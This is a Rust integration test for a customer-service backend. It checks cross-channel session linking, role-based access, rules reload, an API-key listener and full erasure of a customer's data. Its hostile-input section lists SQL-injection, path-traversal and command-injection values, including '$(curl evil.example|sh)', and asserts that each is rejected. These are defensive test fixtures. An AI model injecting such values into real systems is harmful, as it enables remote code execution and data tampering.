//! A real participant process over mTLS on loopback: a customer writes by app, then by email giving the
//! same phone number, and lands in one session with the history linked; apps cannot read history or
//! erase; hostile requests get stable reasons; a rules file with an error is refused on reload while the
//! old rules keep serving; the loopback API-key listener refuses a missing key and acts as an app; after
//! the DPO erases the customer, nothing of them (phone, email, text, pseudonymous id) is in any file
//! under the participant's data directory, and the erasure is in its audit log.

mod common;

use common::*;
use serde_json::{json, Value};

const PHONE_APP: &str = "+44 7700 900123";
const PHONE_EMAIL: &str = "0044-7700-900123";
const EMAIL: &str = "Ann.Lee@Example.org";
const TEXT_APP: &str = "My parcel zebra-771 never arrived and the tracking page is blank";
const TEXT_EMAIL: &str = "Following up by email about parcel zebra-771, still nothing";
const API_KEY: &str = "integration-test-api-key-0123456789abcdef";

/// One plain-HTTP request to the loopback listener.
async fn plain(addr: &str, key: Option<&str>, method: &str, path: &str, body: Value) -> (u16, Value) {
    use http_body_util::{BodyExt, Full};
    let tcp = tokio::net::TcpStream::connect(addr).await.unwrap();
    let (mut send, conn) =
        hyper::client::conn::http1::handshake(hyper_util::rt::TokioIo::new(tcp)).await.unwrap();
    tokio::spawn(conn);
    let mut req = http::Request::builder().method(method).uri(path).header("host", "localhost");
    if let Some(k) = key {
        req = req.header("authorization", format!("Bearer {k}"));
    }
    let req = req.body(Full::new(bytes::Bytes::from(body.to_string()))).unwrap();
    let resp = send.send_request(req).await.unwrap();
    let status = resp.status().as_u16();
    let body = resp.into_body().collect().await.unwrap().to_bytes();
    (status, serde_json::from_slice(&body).unwrap_or(Value::Null))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn customer_switches_channel_and_is_erased_everywhere() {
    let mut cluster = Cluster::start_importing(1, |_, _, _| {});
    // Restart the participant with the loopback API-key listener on.
    cluster.stop_participant("inst-1");
    cluster.participant_env = vec![(
        "inst-1".into(),
        vec![
            ("HEARTH_PARTICIPANT__SERVICE__LOCAL__LISTEN".into(), "127.0.0.1:0".into()),
            ("HEARTH_SERVICE_API_KEY".into(), API_KEY.into()),
        ],
    )];
    cluster.start_participant("inst-1");
    let addr = cluster.participant_addr("inst-1");
    let local = std::fs::read_to_string(cluster.dir.path().join("inst-1.local")).unwrap();
    // The institution's own app and data protection officer (its DPO also reloads the rules).
    let (app, dpo) = (cluster.tls("inst-1/app"), cluster.tls("inst-1/dpo"));
    let operator = cluster.tls("inst-1/dpo");

    // 1. The app channel, then email with the same phone written differently.
    let (s, first) = call_json(
        &addr,
        &app,
        "POST",
        "/v1/messages",
        json!({
            "channel": "app", "identifiers": { "phone": PHONE_APP, "device": "dev-3f9a" }, "text": TEXT_APP
        }),
    )
    .await;
    assert_eq!(s, 200, "{first}");
    assert_eq!(first["new_customer"], true);
    assert_eq!(first["session"]["continued"], false);
    assert!(first["intent"].is_null() && first["unavailable"]["intent"].is_string(), "no model yet: {first}");
    let id = first["customer_id"].as_str().unwrap().to_string();
    let (s, second) = call_json(
        &addr,
        &app,
        "POST",
        "/v1/messages",
        json!({
            "channel": "email", "identifiers": { "phone": PHONE_EMAIL, "email": EMAIL }, "text": TEXT_EMAIL
        }),
    )
    .await;
    assert_eq!(s, 200, "{second}");
    assert_eq!(second["customer_id"], id.as_str(), "the shared phone links the channels");
    assert_eq!(second["session"]["id"], first["session"]["id"]);
    assert_eq!(second["session"]["continued"], true);
    assert_eq!(second["session"]["channels"], json!(["app", "email"]));

    // 2. History: the DPO sees both channels; an app may not look.
    let history = format!("/v1/customers/{id}/history");
    let (s, h) = call_json(&addr, &dpo, "GET", &history, Value::Null).await;
    assert_eq!(s, 200, "{h}");
    let msgs = h["messages"].as_array().unwrap();
    assert_eq!(msgs.len(), 2);
    assert_eq!((msgs[0]["channel"].as_str(), msgs[1]["channel"].as_str()), (Some("app"), Some("email")));
    assert_eq!(msgs[0]["session"], msgs[1]["session"]);
    assert_eq!(msgs[1]["text"], TEXT_EMAIL);
    assert_eq!(h["linked_identifiers"], 3, "phone, device, email");
    assert_eq!(call_json(&addr, &app, "GET", &history, Value::Null).await.0, 403);
    assert_eq!(call_json(&addr, &app, "DELETE", &format!("/v1/customers/{id}"), Value::Null).await.0, 403);

    // 3. Hostile input: each refused with a stable reason, nothing echoed. An oversized body is read and
    // dropped, so the client gets the 413 rather than a reset connection.
    let reason = |v: &Value| v["error"]["reason"].as_str().unwrap_or_default().to_string();
    let (s, big) = https(&addr, &app, "POST", "/v1/messages", vec![b' '; 2 * 1024 * 1024]).await;
    assert_eq!(s, 413, "{}", String::from_utf8_lossy(&big));
    let (s, v) = https(&addr, &app, "POST", "/v1/messages", b"{\"text\": \"\xff\xfe\"}".to_vec()).await;
    assert_eq!((s, reason(&serde_json::from_slice(&v).unwrap())), (400, "invalid_utf8".into()));
    for (body, want) in [
        (
            json!({"channel": "app", "identifiers": {"phone": PHONE_APP}, "text": "x", "is_admin": true}),
            "unknown_field",
        ),
        (
            json!({"channel": "app", "identifiers": {"phone": "1'; DROP TABLE customers;--"}, "text": "x"}),
            "invalid_identifier",
        ),
        (
            json!({"channel": "app", "identifiers": {"openid": "$(curl evil.example|sh)"}, "text": "x"}),
            "invalid_identifier",
        ),
        (
            json!({"channel": "app", "identifiers": {"email": "a\u{0}b@example.org"}, "text": "x"}),
            "invalid_identifier",
        ),
        (
            json!({"channel": "app", "identifiers": {"device": "d".repeat(5000)}, "text": "x"}),
            "invalid_identifier",
        ),
        (json!({"channel": "app", "identifiers": {}, "text": "x"}), "no_identifier"),
        (
            json!({"channel": "carrier-pigeon", "identifiers": {"phone": PHONE_APP}, "text": "x"}),
            "invalid_channel",
        ),
    ] {
        let (s, v) = call_json(&addr, &app, "POST", "/v1/messages", body).await;
        assert_eq!((s, reason(&v)), (400, want.to_string()), "{v}");
        assert!(!v.to_string().contains("DROP TABLE") && !v.to_string().contains("evil.example"), "{v}");
    }
    for path in ["/v1/customers/..%2F..%2Fservice.redb/history", "/v1/customers/c-1%27%20OR%201=1/history"] {
        let (s, v) = call_json(&addr, &dpo, "GET", path, Value::Null).await;
        assert_eq!((s, reason(&v)), (400, "invalid_customer_id".into()), "{path}: {v}");
    }

    // 4. A rules file with an error: refused with its line, the old rules keep serving.
    let rules = cluster.data_dir("inst-1").join("rules.toml");
    let good = std::fs::read_to_string(&rules).unwrap();
    std::fs::write(&rules, format!("{good}\n[[rule]]\nname = \"broken\"\nthen = {{ route = \"moon\" }}\n"))
        .unwrap();
    assert_eq!(call_json(&addr, &app, "POST", "/v1/admin/rules/reload", Value::Null).await.0, 403);
    let (s, v) = call_json(&addr, &operator, "POST", "/v1/admin/rules/reload", Value::Null).await;
    assert_eq!((s, reason(&v)), (422, "invalid_rules".into()), "{v}");
    let msg = v["error"]["message"].as_str().unwrap();
    assert!(msg.contains("rules.toml") && msg.contains("line") && msg.contains("moon"), "{msg}");
    let (s, v) = call_json(
        &addr,
        &app,
        "POST",
        "/v1/messages",
        json!({
            "channel": "web", "identifiers": { "device": "other-device-1" }, "text": "hello", "tier": "gold"
        }),
    )
    .await;
    assert_eq!(s, 200);
    assert_eq!(v["rules_fired"], json!(["gold-tier-to-human"]), "the old rules serve: {v}");
    assert_eq!(v["route"], "human");
    // Fixed and edited by staff (gold customers now go to the seniors): picked up by the file watch, no
    // restart and no reload call.
    std::fs::write(
        &rules,
        good.replace(
            "then = { route = \"human\", priority = \"high\" }",
            "then = { route = \"senior\", priority = \"high\" }",
        ),
    )
    .unwrap();
    let mut route = String::new();
    for _ in 0..100 {
        let (_, v) = call_json(&addr, &app, "POST", "/v1/messages", json!({
            "channel": "web", "identifiers": { "device": "other-device-1" }, "text": "hello", "tier": "gold"
        })).await;
        route = v["route"].as_str().unwrap_or_default().to_string();
        if route == "senior" {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    assert_eq!(route, "senior", "the edited rules file was picked up");
    std::fs::write(&rules, &good).unwrap();
    let (s, v) = call_json(&addr, &operator, "POST", "/v1/admin/rules/reload", Value::Null).await;
    assert_eq!(s, 200, "{v}");

    // 5. The OpenAPI document, and the loopback API-key listener acting as an app.
    let (s, doc) = call_json(&addr, &app, "GET", "/v1/openapi.json", Value::Null).await;
    assert_eq!(s, 200);
    assert!(doc["paths"]["/v1/messages"]["post"].is_object());
    let m = json!({"channel": "sms", "identifiers": {"phone": "+15550001111"}, "text": "hi"});
    assert_eq!(plain(&local, None, "POST", "/v1/messages", m.clone()).await.0, 401);
    assert_eq!(
        plain(&local, Some("wrong-key-wrong-key-wrong-key"), "POST", "/v1/messages", m.clone()).await.0,
        401
    );
    let (s, v) = plain(&local, Some(API_KEY), "POST", "/v1/messages", m).await;
    assert_eq!(s, 200, "{v}");
    assert_eq!(plain(&local, Some(API_KEY), "GET", &history, Value::Null).await.0, 403, "the key is an app");

    // 6. Erasure by the DPO: gone from the API, and from every file under the data directory.
    let (s, v) = call_json(&addr, &dpo, "DELETE", &format!("/v1/customers/{id}"), Value::Null).await;
    assert_eq!(s, 200, "{v}");
    assert_eq!(v["messages"], 2);
    assert_eq!(call_json(&addr, &dpo, "GET", &history, Value::Null).await.0, 404);
    cluster.stop_participant("inst-1");
    let mut needles: Vec<String> = vec![
        "7700900123".into(),
        "7700-900123".into(),
        "7700 900123".into(),
        EMAIL.into(),
        EMAIL.to_lowercase(),
        "zebra-771".into(),
        "dev-3f9a".into(),
        id.clone(),
    ];
    needles.push(TEXT_APP.into());
    let files = files_under(&cluster.data_dir("inst-1"));
    assert!(files.iter().any(|f| f.ends_with("service.redb")), "{files:?}");
    let mut audit = String::new();
    for f in &files {
        let raw = std::fs::read(f).unwrap();
        for n in &needles {
            assert!(!raw.windows(n.len()).any(|w| w == n.as_bytes()), "{n:?} found in {}", f.display());
        }
        if f.components().any(|c| c.as_os_str() == "audit") {
            audit.push_str(&String::from_utf8_lossy(&raw));
        }
    }
    assert!(audit.contains("customer.erase"), "the erasure is in the audit log");
    assert!(audit.contains("service.call"), "the apps' refused calls are in the audit log");
    assert!(audit.contains("rules.reload"), "reloads, refused and accepted, are in the audit log");
    assert!(audit.contains(v["audit_reference"].as_str().unwrap()));
    let log = cluster.log("inst-1");
    assert!(
        !log.contains("zebra-771") && !log.contains("7700900123"),
        "the process log holds no customer data"
    );
}
